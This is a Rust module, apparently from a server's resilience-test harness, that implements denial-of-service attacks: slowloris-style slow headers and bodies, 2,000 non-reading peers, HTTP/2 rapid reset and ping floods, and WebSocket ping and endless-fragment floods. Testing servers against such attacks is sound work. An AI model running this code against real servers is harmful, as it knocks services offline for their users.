//! What hostile peers do.

use std::{future::Future, net::SocketAddr, pin::Pin, time::Duration};

use futures_util::{StreamExt, stream};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::interval,
};

use crate::http2;

/// Peers of a slow attack.
const MANY: usize = 2_000;
/// Connections of a flood.
const FEW: usize = 2;
/// How often a slow peer says one more byte.
const DRIP: Duration = Duration::from_secs(1);

/// One attack, which goes on until what it begins is dropped.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) begin: fn(SocketAddr) -> Begun,
}

type Begun = Pin<Box<dyn Future<Output = JoinSet<()>> + Send>>;

pub(crate) const ATTACKS: [Attack; 7] = [
    Attack { name: "2,000 slow heads", begin: |at| Box::pin(drip(at, SLOW_HEAD)) },
    Attack { name: "2,000 slow bodies", begin: |at| Box::pin(drip(at, SLOW_BODY)) },
    Attack { name: "2,000 who do not read", begin: |at| Box::pin(do_not_read(at)) },
    Attack { name: "HTTP/2 rapid reset", begin: |at| Box::pin(flood(at, rapid_reset)) },
    Attack { name: "HTTP/2 ping flood", begin: |at| Box::pin(flood(at, ping_flood)) },
    Attack { name: "WebSocket ping flood", begin: |at| Box::pin(flood(at, websocket_pings)) },
    Attack { name: "WebSocket oversized fragments", begin: |at| Box::pin(flood(at, fragments)) },
];

const SLOW_HEAD: &[u8] = b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ";
const SLOW_BODY: &[u8] =
    b"POST /upload HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 900000\r\n\r\n";

/// Connects many peers, each of which has said `first`.
async fn connect_many(address: SocketAddr, first: &'static [u8]) -> Vec<TcpStream> {
    let connect = |_| async move {
        let socket = TcpSocket::new_v4().unwrap();
        socket.set_recv_buffer_size(4096).unwrap();
        let mut stream = socket.connect(address).await.ok()?;
        stream.write_all(first).await.ok()?;
        Some(stream)
    };
    let connected = stream::iter(0..MANY).map(connect).buffer_unordered(100);
    connected.filter_map(|stream| async { stream }).collect().await
}

/// Peers that say one byte after the other.
async fn drip(address: SocketAddr, first: &'static [u8]) -> JoinSet<()> {
    let mut streams = connect_many(address, first).await;
    assert_eq!(streams.len(), MANY, "all are let in");
    let mut tasks = JoinSet::new();
    tasks.spawn(async move {
        let mut ticks = interval(DRIP);
        loop {
            ticks.tick().await;
            for stream in &mut streams {
                let _ = stream.write_all(b"1").await;
            }
        }
    });
    tasks
}

/// Peers that ask for much and read nothing.
async fn do_not_read(address: SocketAddr) -> JoinSet<()> {
    let streams = connect_many(address, b"GET /large HTTP/1.1\r\nhost: x\r\n\r\n").await;
    assert_eq!(streams.len(), MANY, "all are let in");
    let mut tasks = JoinSet::new();
    tasks.spawn(async move {
        let _held = streams;
        std::future::pending().await
    });
    tasks
}

/// Peers that come again whenever they are cut off.
async fn flood<Fut>(address: SocketAddr, rage: fn(TcpStream) -> Fut) -> JoinSet<()>
where
    Fut: Future<Output = std::io::Result<()>> + Send + 'static,
{
    let mut tasks = JoinSet::new();
    for _ in 0..FEW {
        tasks.spawn(async move {
            loop {
                let Ok(stream) = TcpStream::connect(address).await else { continue };
                let _ = rage(stream).await;
            }
        });
    }
    tasks
}

/// Writes `bytes` over and over, and reads whatever comes, until the peer cuts it off.
async fn write_on(stream: TcpStream, bytes: impl AsyncFnMut() -> Vec<u8>) -> std::io::Result<()> {
    let (mut reading, mut writing) = stream.into_split();
    let mut bytes = bytes;
    let read = async {
        let mut buffer = vec![0; 16 * 1024];
        while reading.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let write = async {
        loop {
            writing.write_all(&bytes().await).await?;
        }
    };
    tokio::select! { ended = read => ended, ended = write => ended }
}

async fn rapid_reset(mut stream: TcpStream) -> std::io::Result<()> {
    stream.write_all(&http2::hello()).await?;
    let mut next = 1;
    write_on(stream, async move || {
        let calls = (0..100).flat_map(|nth| http2::reset_call(next + 2 * nth)).collect();
        next += 200;
        calls
    })
    .await
}

async fn ping_flood(mut stream: TcpStream) -> std::io::Result<()> {
    stream.write_all(&http2::hello()).await?;
    let pings = http2::ping(&[0; 8]).repeat(100);
    write_on(stream, async move || pings.clone()).await
}

async fn upgrade(stream: &mut TcpStream) -> std::io::Result<()> {
    stream
        .write_all(
            b"GET /ws HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
              sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        )
        .await?;
    let mut answer = Vec::new();
    while !answer.ends_with(b"\r\n\r\n") {
        answer.push(stream.read_u8().await?);
    }
    Ok(())
}

async fn websocket_pings(mut stream: TcpStream) -> std::io::Result<()> {
    upgrade(&mut stream).await?;
    let pings = [&[0x89, 0x80 | 4, 0, 0, 0, 0][..], b"ping"].concat().repeat(100);
    write_on(stream, async move || pings.clone()).await
}

/// A message that never ends, in pieces of 64 kB.
async fn fragments(mut stream: TcpStream) -> std::io::Result<()> {
    upgrade(&mut stream).await?;
    const PIECE: usize = 64 << 10;
    let mut begun = false;
    write_on(stream, async move || {
        let opcode = if std::mem::replace(&mut begun, true) { 0 } else { 1 };
        let mut frame = vec![opcode, 0x80 | 127];
        frame.extend((PIECE as u64).to_be_bytes());
        frame.extend([0; 4]);
        frame.resize(frame.len() + PIECE, b'x');
        frame
    })
    .await
}
